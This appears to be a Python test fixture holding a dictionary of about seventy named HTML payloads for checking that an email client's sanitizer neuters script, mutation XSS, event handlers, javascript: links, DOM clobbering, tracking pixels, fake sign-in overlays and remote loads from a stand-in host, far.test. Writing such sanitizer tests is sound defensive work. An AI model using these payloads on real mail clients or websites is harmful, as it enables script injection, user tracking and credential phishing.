"""Mail that tries to act when it is only to be read. FAR is where it would call home."""

FAR = "https://far.test"

TRICKS = {
    "script": "<script>window.top.pwned = 1; fetch('https://far.test/a')</script>",
    "script from afar": "<script src='https://far.test/a.js'></script>",
    "script in a broken tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "script in a comment": "<!--><script>alert(1)</script>-->",
    "script after a title": "<title><a title='</title><script>alert(1)</script>'>",
    "script in noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "script in a template": "<template><script>alert(1)</script></template>",
    "script in a text area": "<textarea></textarea><script>alert(1)</script></textarea>",
    "mutation over math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "mutation over svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation over a form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "image that fails": "<img src=x onerror=alert(1)>",
    "image that loads": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=alert(1)>",
    "handler of the body": "<body onload=alert(1) onpageshow=alert(2)>",
    "handler on focus": "<input autofocus onfocus=alert(1)><a tabindex=1 onfocus=alert(2)>",
    "handler of an animation": (
        "<style>@keyframes x {}</style><p style='animation: x 1s' onanimationstart=alert(1)>"
    ),
    "handler of details": "<details open ontoggle=alert(1)><summary>Hi</summary></details>",
    "handler of a video": "<video autoplay onloadstart=alert(1)><source src=x onerror=alert(2)>",
    "link to script": "<a href='javascript:alert(1)'>click</a>",
    "link to script, disguised": "<a href=' &#x6A;ava&#10;script:alert(1)'>click</a>",
    "link to data": "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "link to vbscript": "<a href='vbscript:msgbox(1)'>click</a>",
    "map to script": "<map name=m><area shape=default href='javascript:alert(1)'></map>",
    "svg to script": "<svg><a xlink:href='javascript:alert(1)'><text>click</text></a></svg>",
    "svg that animates": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg image of script": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
        "onload='alert(1)'></svg>\">"
    ),
    "frame": "<iframe src='https://far.test/a'></iframe>",
    "frame with a document": "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "object": "<object data='https://far.test/a'></object><embed src='https://far.test/b'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://far.test/a'>",
    "weaker policy": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "base": "<base href='https://far.test/'><img src=a.png><a href=b>click</a>",
    "style from afar": "<link rel=stylesheet href='https://far.test/a.css'>",
    "look-ups ahead": (
        "<link rel=dns-prefetch href='//far.test'><link rel=preconnect href='https://far.test'>"
        "<link rel=prefetch href='https://far.test/a'>"
    ),
    "style that imports": "<style>@import 'https://far.test/a.css';</style>",
    "style with an image": "<p style=\"background: url('https://far.test/a.png')\">Hi</p>",
    "style with a list image": "<ul style='list-style: url(https://far.test/a)'><li>Hi</ul>",
    "border from afar": "<p style='border: 1px solid; border-image: url(https://far.test/a)'>Hi</p>",
    "font from afar": "<style>@font-face { font-family: x; src: url(https://far.test/a) }</style>",
    "pixel": "<img src='https://far.test/open.gif' width=1 height=1>",
    "pixel without a scheme": "<img src='//far.test/open.gif'>",
    "pixel in a set": "<img srcset='https://far.test/a 1x, https://far.test/b 2x'>",
    "picture": "<picture><source srcset='https://far.test/a'><img src='https://far.test/b'></picture>",
    "background": "<table background='https://far.test/a'><tr><td background='//far.test/b'>Hi",
    "poster": "<video poster='https://far.test/a' src='https://far.test/b'></video>",
    "sound": "<audio autoplay src='//far.test/c'></audio>",
    "form that sends": (
        "<form action='https://far.test/a'><input name=q><button autofocus>Go</button></form>"
    ),
    "htmx": (
        "<p hx-get='/inbox/' hx-trigger=load data-hx-post='/settings/stop/' hx-swap-oob=true>Hi</p>"
    ),
    "htmx in attributes": "<div hx-on:load='alert(1)' hx-vals='js:{a: alert(1)}' hx-ext=x>Hi</div>",
    "our own scripts' words": "<button data-key=e data-confirm=x data-open-dialog=keys>Hi</button>",
    "over the page": "<p style='position: fixed; inset: 0; z-index: 9999'>Sign in again</p>",
    "script in another namespace": (
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>"
        "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>"
    ),
    "script in a broken tag, again": "<<script>alert(1);//<</script><script/x>alert(1)</script >",
    "script that never closes": "<div><script src=https://far.test/a.js < </div>",
    "script for old browsers": (
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if !IE 5]>"
        "<script>alert(1)</script><![endif]>"
    ),
    "script in another character set": (
        "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    ),
    "script that asks workers and windows": (
        "<script>new Worker('data:,postMessage(1)'); window.open('https://far.test/a')</script>"
    ),
    "document of XML": (
        "<?xml-stylesheet type='text/xsl' href='https://far.test/a.xsl'?><!DOCTYPE x ["
        "<!ENTITY x SYSTEM 'https://far.test/a.xml'>]><y>&x;</y><![CDATA[<script>alert(1)</script>]]>"
    ),
    "mutation in a select": (
        "<select><template><img src=x onerror=alert(1)></template></select>"
        "<option><style></option></select><img src=x onerror=alert(1)></style>"
    ),
    "mutation over a text area": (
        "<textarea>a</textarea><!--</textarea><img src=x onerror=alert(1)>-->"
    ),
    "mutation over foreign objects": (
        "<svg><foreignobject><p><style><p title='</style><iframe onload&#x3d;alert(1)<!--'></style>"
    ),
    "clobbering": (
        "<form name=body><input name=nodeName><input name=attributes><input name=submit>"
        "<img name=createElement><img id=getElementById><a id=htmx><a id=htmx name=config></form>"
    ),
    "image of script": (
        "<img src='javascript:alert(1)'><img src='jav&#x09;ascript:alert(1)'>"
        "<image src=`javascript:1`><img src='&NewLine;javascript:alert(1)'>"
        "<img src='&#xA0;javascript:alert(1)'>"
    ),
    "attributes that are oddly written": (
        "<img/src=x/onerror=alert(1)><a onclick!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>Hi</a>"
        "<img src=x\"'onerror='alert(1) /><p `<script>alert(1)</script>` is=x>Hi</p>"
    ),
    "buttons that run script": (
        "<form id=f></form><button form=f formaction='javascript:alert(1)'>Go</button>"
        "<isindex action='javascript:alert(1)'><math href='javascript:alert(1)'>Go</math>"
    ),
    "tags of other browsers": (
        "<bgsound src='https://far.test/a'><event-source src='https://far.test/b' onload=alert(1)>"
        "<keygen autofocus onfocus=alert(1)><object classid='clsid:0'></object>"
        "<vmlframe style='behavior: url(#default#vml)' src='https://far.test/c'>"
    ),
    "style that runs script": (
        "<p style='width: expression(alert(1)); -moz-binding: url(https://far.test/a);"
        " behavior: url(https://far.test/b); background-image: \\75\\72\\6c(https://far.test/c)'>Hi</p>"
    ),
    "style that draws from afar": (
        "<p style='content: url(https://far.test/a); filter: url(https://far.test/b#x);"
        " cursor: url(https://far.test/c), auto; mask: url(https://far.test/d)'>Hi</p>"
        "<rect fill='url(https://far.test/e#x)'>"
    ),
    "what is dragged and what pops up": (
        "<div draggable=true ondragstart=alert(1)>Hi</div><div popover id=p>Sign in again</div>"
        "<button popovertarget=p popovertargetaction=show>Hi</button>"
    ),
    "link over the whole mail": (
        "<a href='javascript:alert(1)' style='display: block; position: absolute; left: 0; top: 0;"
        " width: 100%; height: 100%; z-index: 9'>&nbsp;</a>"
    ),
}
